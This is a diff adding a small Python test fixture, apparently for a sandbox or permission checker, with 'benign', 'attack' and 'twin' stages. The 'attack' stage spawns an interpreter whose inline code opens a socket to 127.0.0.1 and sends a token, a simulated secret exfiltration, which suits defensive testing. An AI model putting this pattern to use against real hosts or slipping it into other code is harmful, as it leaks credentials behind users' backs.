@@ -1,0 +1,23 @@
+# culprit: unknown caller: unknown right: @net-out|@local-socket twin: own
+# SPDX-License-Identifier: Apache-2.0
+"""A library that may start programs starts an interpreter on a text of its own."""
+
+import subprocess
+import sys
+
+
+def _start(argv):
+    return subprocess.run(argv, check=False, stderr=subprocess.DEVNULL).returncode
+
+
+def benign(stage):
+    return _start(["/bin/true"])
+
+
+def attack(stage):
+    text = f"import socket; socket.create_connection(('127.0.0.1', {stage.port})).sendall({stage.token!r})"
+    return _start([sys.executable, "-c", text])
+
+
+def twin(stage):
+    return _start([sys.executable, "-m", "deploytool.report", str(stage.port), stage.token.decode()])
